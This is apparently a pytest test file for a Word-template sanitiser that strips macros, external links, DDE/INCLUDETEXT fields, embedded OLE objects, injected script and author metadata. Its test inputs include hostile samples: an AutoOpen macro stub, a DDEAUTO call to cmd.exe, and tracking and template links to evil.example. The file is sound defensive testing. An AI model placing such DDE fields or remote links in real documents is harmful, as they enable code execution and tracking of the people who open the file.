"""What a template can be sent with, and what is left of it: nothing that runs, fetches or tells of somebody's computer."""

import io
import zipfile
from typing import Any

import pytest
from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn

from adapters.render.word_template.clean import clean
from tests.template_files import (
    DOCUMENT,
    END,
    RELATIONS,
    bare_template,
    cleaned_parts,
    in_body,
    relation,
    saved,
    with_parts,
    with_relation,
)

MACRO = b"Sub AutoOpen()"


@pytest.mark.parametrize(
    "kind",
    ["document.macroEnabled", "template.macroEnabledTemplate", "template"],
)
def test_every_kind_of_word_file_becomes_a_plain_document(kind: str) -> None:
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    other = f"application/vnd.ms-word.{kind}.main+xml".encode()
    if kind == "template":
        other = main.replace(b"document.main", b"template.main")
    body = with_parts(saved(bare_template("{{title}}")), {}, {"[Content_Types].xml": (main, other)})
    assert [each.text for each in Document(io.BytesIO(clean(body, "own.dotx").body)).paragraphs] == ["{{title}}"]


def test_macros_are_left_out_and_named() -> None:
    body = with_relation("vbaProject", "vbaProject.bin", parts={"word/vbaProject.bin": MACRO})
    assert clean(body, "own.dotm").left_out == ("macros",)
    assert not any(MACRO in part or b"vba" in part for part in cleaned_parts(body).values())


@pytest.mark.parametrize(
    ("kind", "target", "named"),
    [
        ("attachedTemplate", "https://evil.example/t.dotm", "a link to another template"),
        ("oleObject", "file:///c:/secret.xls", "an embedded or linked object"),
        ("subDocument", "https://evil.example/d.docx", "a link to another document"),
        ("image", "https://evil.example/pixel.png", "a picture from elsewhere"),
        ("frame", "https://evil.example/f.html", "a frame with another page"),
        ("hyperlink", "file:///h:/children/list.xlsx", "a link to a file"),
        ("mailMergeSource", "file:///h:/list.csv", "the data of a mail merge"),
        ("somethingNew", "https://evil.example/x", "a link to another file"),
    ],
)
def test_what_points_elsewhere_is_left_out_and_named(kind: str, target: str, named: str) -> None:
    body = with_relation(kind, target, external=True)
    assert clean(body, "own.docx").left_out == (named,)
    assert not any(target.encode() in part for part in cleaned_parts(body).values())


def test_a_link_to_a_page_of_the_council_stays() -> None:
    body = with_relation("hyperlink", "https://www.sampleshire.example/", external=True)
    assert clean(body, "own.docx").left_out == ()
    assert b"https://www.sampleshire.example/" in cleaned_parts(body)[RELATIONS]


@pytest.mark.parametrize(
    "instruction",
    ["DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe", "DDE excel x", "INCLUDETEXT http://evil.example", "includepicture x",
     "LINK Excel.Sheet x", "MACROBUTTON Run me", "FILENAME \\p", "DATE", "USERNAME", "IF 1 = 1"],
)  # fmt: skip
@pytest.mark.parametrize("way", ["simple", "complex"])
def test_a_field_that_fetches_runs_or_tells_is_reduced_to_its_text(instruction: str, way: str) -> None:
    result = "<w:r><w:t>shown</w:t></w:r>"
    if way == "simple":
        xml = f'<w:fldSimple w:instr=" {instruction} ">{result}</w:fldSimple>'
    else:
        half = len(instruction) // 2  # Word splits instructions over runs, and so do those who hide one
        halves = instruction[:half], instruction[half:]
        parts = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in halves)
        marks = [f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")]
        xml = marks[0] + parts + marks[1] + result + marks[2]
    body = in_body(xml)
    assert Document(io.BytesIO(clean(body, "own.docx").body)).paragraphs[0].text == "shown"
    document = cleaned_parts(body)[DOCUMENT]
    assert (b"instr" in document, b"fldChar" in document, b"fldSimple" in document) == (False, False, False)
    assert clean(body, "own.docx").left_out == (f"the field {instruction.split()[0].upper()} (its printed text stays)",)


def test_a_field_within_the_instruction_of_another_goes_with_it() -> None:
    begin, separate, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    inner = f"{begin}<w:r><w:instrText>DDE x</w:instrText></w:r>{separate}<w:r><w:t>hidden</w:t></w:r>{end}"
    xml = f"{begin}<w:r><w:instrText>IF </w:instrText></w:r>{inner}{separate}<w:r><w:t>shown</w:t></w:r>{end}"
    body = in_body(xml)
    assert b"instrText" not in cleaned_parts(body)[DOCUMENT]


def test_the_numbers_of_pages_stay() -> None:
    body = in_body('<w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>')
    assert clean(body, "own.docx").left_out == ()
    assert b"PAGE" in cleaned_parts(body)[DOCUMENT]


def test_an_embedded_object_goes_with_the_picture_of_it() -> None:
    xml = '<w:r><w:object><v:shape id="a"/><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdX"/></w:object></w:r>'
    body = with_parts(
        in_body(xml),
        {"word/embeddings/x.bin": b"MZ"},
        {RELATIONS: (END, relation("rIdX", "oleObject", "embeddings/x.bin") + END)},
    )
    assert clean(body, "own.docx").left_out == ("an embedded or linked object",)
    assert not any(b"OLEObject" in part or part == b"MZ" for part in cleaned_parts(body).values())


def test_what_refers_to_something_left_out_goes_too_so_that_word_opens_the_file() -> None:
    xml = '<w:r><w:pict><v:shape id="a"><v:imagedata r:id="rIdX"/></v:shape></w:pict></w:r>'
    changes = {RELATIONS: (END, relation("rIdX", "image", "http://evil.example/p.png", external=True) + END)}
    body = with_parts(in_body(xml), {}, changes)
    assert b"imagedata" not in cleaned_parts(body)[DOCUMENT]


def test_a_file_that_is_read_in_is_left_out() -> None:
    template = bare_template("{{title}}")
    template.element.body.insert(0, parse_xml(f'<w:altChunk {nsdecls("w", "r")} r:id="rIdX"/>'))
    parts = {"word/chunk.html": b"<script>"}
    body = with_parts(saved(template), parts, {RELATIONS: (END, relation("rIdX", "aFChunk", "chunk.html") + END)})
    assert clean(body, "own.docx").left_out == ("another file that is read in",)
    assert not any(b"<script>" in part for part in cleaned_parts(body).values())


def test_comments_and_properties_of_whoever_made_it_are_left_out() -> None:
    template = bare_template("{{title}}")
    template.core_properties.author = "A. Person"
    body = with_parts(
        saved(template),
        {"word/comments.xml": b"<w:comments/>"},
        {RELATIONS: (END, relation("rIdX", "comments", "comments.xml") + END)},
    )
    assert not any(b"A. Person" in part or b"w:comments" in part for part in cleaned_parts(body).values())


def test_tracked_changes_are_taken_as_accepted() -> None:
    new = '<w:ins w:id="1" w:author="A"><w:r><w:t>new</w:t></w:r></w:ins>'
    xml = new + '<w:del w:id="2" w:author="A"><w:r><w:t>old</w:t></w:r></w:del>'
    found = clean(in_body(xml), "own.docx")
    assert Document(io.BytesIO(found.body)).paragraphs[0].text == "new"
    assert found.left_out == ("tracked changes (taken as accepted)",)


def test_a_control_that_word_fills_from_elsewhere_is_filled_by_the_report_alone() -> None:
    content = "<w:sdtContent><w:r><w:t>{{title}}</w:t></w:r></w:sdtContent>"
    xml = f'<w:sdt><w:sdtPr><w:dataBinding w:xpath="/x"/></w:sdtPr>{content}</w:sdt>'
    assert b"dataBinding" not in cleaned_parts(in_body(xml))[DOCUMENT]


@pytest.mark.parametrize("xml", ["<w15:dataBinding w:xpath='/x'/>", "<w:showingPlcHdr/>"])
def test_what_is_filled_in_is_no_prompt_of_a_control(xml: str) -> None:
    """Word takes the text of a control for a prompt while it says so, and it goes at the first click."""
    names = ' xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"'
    content = "<w:sdtContent><w:r><w:t>{{title}}</w:t></w:r></w:sdtContent>"
    document = cleaned_parts(in_body(f"<w:sdt{names}><w:sdtPr>{xml}</w:sdtPr>{content}</w:sdt>"))[DOCUMENT]
    assert b"dataBinding" not in document
    assert b"showingPlcHdr" not in document


def test_a_row_whose_deletion_was_tracked_is_gone_and_nobody_is_named() -> None:
    template = bare_template("{{title}}")
    table = template.add_table(2, 1)
    gone = parse_xml(f'<w:trPr {nsdecls("w")}><w:del w:id="1" w:author="A. Person"/></w:trPr>')
    table.rows[0]._tr.insert(0, gone)
    table.rows[1].cells[0]._tc.get_or_add_tcPr().append(parse_xml(f'<w:cellIns {nsdecls("w")} w:id="2" w:author="A. Person"/>'))
    found = clean(saved(template), "own.docx").body
    assert len(Document(io.BytesIO(found)).tables[0].rows) == 1
    assert not any(b"A. Person" in part for part in cleaned_parts(found).values())


@pytest.mark.parametrize(("text", "left"), [("", ["{{title}}"]), ("still here", ["still here", "{{title}}"])])
def test_an_empty_paragraph_whose_end_was_deleted_is_gone(text: str, left: list[str]) -> None:
    mark = '<w:pPr><w:rPr><w:del w:id="1" w:author="A"/></w:rPr></w:pPr>'
    xml = f'{mark}<w:del w:id="2" w:author="A"><w:r><w:delText>old</w:delText></w:r></w:del><w:r><w:t>{text}</w:t></w:r>'
    xml = xml if text else xml.replace("<w:r><w:t></w:t></w:r>", "")
    assert [each.text for each in Document(io.BytesIO(clean(in_body(xml), "own.docx").body)).paragraphs] == left


def test_addresses_that_need_no_relationship_are_left_out() -> None:
    shape = (
        '<v:shape id="a" href="http://evil.example/a"><v:imagedata src="http://evil.example/p" o:href="http://evil.example/q"/>'
    )
    document = cleaned_parts(in_body(f"<w:r><w:pict>{shape}</v:shape></w:pict></w:r>"))[DOCUMENT]
    assert b"http://evil.example" not in document


def test_comments_in_the_xml_and_settings_that_ask_something_of_a_computer_are_left_out() -> None:
    body = with_parts(
        saved(bare_template("{{title}}")),
        {},
        {
            DOCUMENT: (b"<w:body>", b"<?evil x?><!-- evil --><w:body>"),
            "word/settings.xml": (b"<w:zoom", b'<w:saveThroughXslt w:solutionID="http://evil.example"/><w:updateFields/><w:zoom'),
        },
    )
    parts = cleaned_parts(body)
    assert b"evil" not in parts[DOCUMENT]
    assert (b"evil" in parts["word/settings.xml"], b"updateFields" in parts["word/settings.xml"]) == (False, False)
    assert b"w:zoom" in parts["word/settings.xml"]


def test_a_text_that_word_on_the_web_has_called_otherwise_is_found() -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(saved(bare_template("{{title}}")))) as source, zipfile.ZipFile(packed, "w") as target:
        for name in source.namelist():
            target.writestr(
                name.replace("document.xml", "document2.xml"), source.read(name).replace(b"document.xml", b"document2.xml")
            )
    assert [each.text for each in Document(io.BytesIO(clean(packed.getvalue(), "own.docx").body)).paragraphs] == ["{{title}}"]


def test_relationships_without_an_id_and_second_ones_of_a_kind_are_left_out() -> None:
    styles = relation("rIdX", "styles", "styles.xml")
    changes = {RELATIONS: (END, b'<!-- x --><Relationship Type="x/styles" Target="y"/><Relationship/>' + styles + END)}
    body = clean(with_parts(saved(bare_template("{{title}}")), {}, changes), "own.docx").body
    assert Document(io.BytesIO(body)).styles["Normal"]


def test_what_is_left_is_a_file_that_opens() -> None:
    document: Any = Document(io.BytesIO(clean(saved(bare_template("{{title}}")), "own.docx").body))
    assert [each.get(qn("w:type")) for each in document.styles.element.iter(qn("w:style"))] != []
